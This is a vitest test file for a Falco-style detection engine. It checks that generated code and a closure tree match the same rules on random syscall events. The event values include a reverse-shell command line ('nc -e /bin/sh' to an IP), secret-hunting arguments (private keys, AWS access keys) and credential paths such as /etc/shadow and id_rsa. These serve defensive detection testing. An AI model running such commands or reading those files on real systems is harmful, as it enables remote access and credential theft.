import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { rng } from '../../../src/engine/fuzz.js';
import { createEngine, memoryExtractor, SYSCALL_FIELDS } from '../../../src/engine/index.js';
import { REFDATA, refdataAvailable } from '../../harness/refdata.js';

describe.skipIf(!refdataAvailable())('stable rules: generated code agrees with the closure tree', () => {
  it('matches the same rules on random syscall events', () => {
    const content = readFileSync(join(REFDATA, 'rules/falco_rules.yaml'), 'utf8');
    const ext = memoryExtractor('syscall', SYSCALL_FIELDS);
    const mk = (codegen: boolean) => {
      const e = createEngine({ extractors: [ext], ruleMatching: 'all', codegen, suggestedOutput: false });
      expect(e.load([{ name: 'falco_rules.yaml', content }]).successful).toBe(true);
      return e;
    };
    const gen = mk(true);
    const clo = mk(false);
    const r = rng(5);
    const pick = <T>(xs: T[]): T => xs[Math.floor(r() * xs.length)]!;
    const fired = new Set<string>();
    for (let i = 0; i < 4000; i++) {
      const ev: Record<string, unknown> = {
        'evt.type': pick([
          'open',
          'openat',
          'openat2',
          'execve',
          'execveat',
          'connect',
          'ptrace',
          'socket',
          'dup2',
          'symlinkat',
          'linkat',
          'init_module',
          'close',
        ]),
        'proc.name': pick([
          'bash',
          'sh',
          'nginx',
          'nc',
          'grep',
          'shred',
          'debugfs',
          'cat',
          'sshd',
          undefined,
        ]),
        'proc.pname': pick(['nginx', 'bash', 'runc', undefined]),
        'proc.aname': pick([['nginx', 'systemd'], ['bash'], []]),
        'proc.cmdline': pick(['nc -e /bin/sh 1.2.3.4', 'grep BEGIN PRIVATE', 'cat x', undefined]),
        'proc.args': pick(['-e /bin/sh', 'BEGIN PRIVATE', 'aws_access_key_id', '-c /dev/shm/x', undefined]),
        'proc.exe': pick(['/dev/shm/x', '/usr/bin/bash', undefined]),
        'proc.cwd': pick(['/dev/shm/', '/root', undefined]),
        'proc.tty': pick([0, 34816]),
        'proc.is_exe_upper_layer': pick([true, false]),
        'proc.is_exe_from_memfd': pick([true, false]),
        'fd.name': pick([
          '/etc/shadow',
          '/etc/passwd',
          '/var/log/syslog',
          '/home/a/.ssh/id_rsa',
          '/etc/../../x',
          '/tmp/x',
          undefined,
        ]),
        'fd.nameraw': pick(['/etc/../../etc/shadow', '/etc/shadow', undefined]),
        'fd.directory': pick(['/etc', '/var/log', '/etc/pam.d', undefined]),
        'fd.filename': pick(['shadow', 'release_agent', 'x']),
        'fd.typechar': pick(['f', '4', '6']),
        'fd.type': pick(['file', 'ipv4']),
        'fd.num': pick([3, -1, 0]),
        'fd.sip.name': pick(['kubernetes.default.svc.cluster.local', undefined]),
        'evt.is_open_read': pick([true, false]),
        'evt.is_open_write': pick([true, false]),
        'evt.res': pick(['SUCCESS', 'ENOENT']),
        'evt.rawres': pick([0, 1, 2, -2]),
        'evt.arg[request]': pick(['PTRACE_TRACEME', 'PTRACE_ATTACH', undefined]),
        'evt.arg[domain]': pick(['AF_PACKET', 'AF_INET']),
        'user.name': pick(['root', 'www-data', 'app']),
        'container.id': pick(['host', 'abc123def456']),
        'container.privileged': pick([true, false]),
        'container.image.repository': pick(['docker.io/library/nginx', undefined]),
        'thread.cap_effective': pick(['CAP_SYS_MODULE', '']),
      };
      const a = gen.process('syscall', ev).map((m) => m.rule.name);
      const b = clo.process('syscall', ev).map((m) => m.rule.name);
      expect(a, JSON.stringify(ev)).toEqual(b);
      for (const n of a) fired.add(n);
    }
    expect(fired.size).toBeGreaterThan(8);
  });
});
